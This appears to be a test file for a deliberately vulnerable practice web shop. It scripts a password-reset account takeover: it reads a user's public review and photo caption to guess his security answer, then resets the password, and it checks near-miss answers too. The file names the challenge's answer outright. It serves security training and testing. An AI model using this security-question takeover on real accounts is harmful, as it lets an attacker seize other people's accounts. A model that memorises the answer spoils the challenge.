import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword, spellingsOfReset } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const ANSWER = 'West-2082'

const reset = (attacker: Attacker, answer: string, more?: object) =>
  resetPassword(attacker, `bjoern@${attacker.domain}`, answer, more)

/** Point of the compass where the sun sets or rises, in German as in the postal code. */
const COMPASS: Readonly<Record<string, string>> = { 'goes down': 'West', 'comes up': 'Ost' }

/** Reads his review and the caption of the letterbox photo. */
async function readTheClues(attacker: Attacker): Promise<string> {
  const reviews: readonly { message: string }[] = (await attacker.get('/rest/products/34/reviews')).json().data
  const [, sun = ''] = /where the sun (goes down|comes up)/.exec(JSON.stringify(reviews)) ?? []
  const photos = (await attacker.get('/rest/memories')).json().data
  const [, digits = ''] = /four digits of my youth, (\d{4})/.exec(JSON.stringify(photos)) ?? []
  return `${COMPASS[sun]}-${digits}`
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get(`/rest/user/security-question?email=bjoern@${attacker.domain}`)
    await reset(attacker, await readTheClues(attacker))
  },
  spellings: spellingsOfReset('bjoern', ANSWER),
  nearMisses: {
    'the digits without the point of the compass': (attacker) => reset(attacker, '2082'),
    'another point of the compass': (attacker) => reset(attacker, 'East-2082'),
    'the code in small letters': (attacker) => reset(attacker, 'west-2082'),
    'the code without its dash': (attacker) => reset(attacker, 'West 2082'),
    'the code of a neighbour': (attacker) => reset(attacker, 'West-2083'),
    'the code with two new passwords': (attacker) => reset(attacker, ANSWER, { new: 'riper', repeat: 'ripest' }),
    'the code for his private account': (attacker) => resetPassword(attacker, 'bjorn@windfall.test', ANSWER),
    'the code for the account from outside': (attacker) => resetPassword(attacker, 'bjorn.apfelkern@mail.test', ANSWER),
    'the code as an answer of one’s own account': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 9, answer: ANSWER })
      await resetPassword(attacker, email, ANSWER)
    },
    'reading both clues': readTheClues,
  },
})
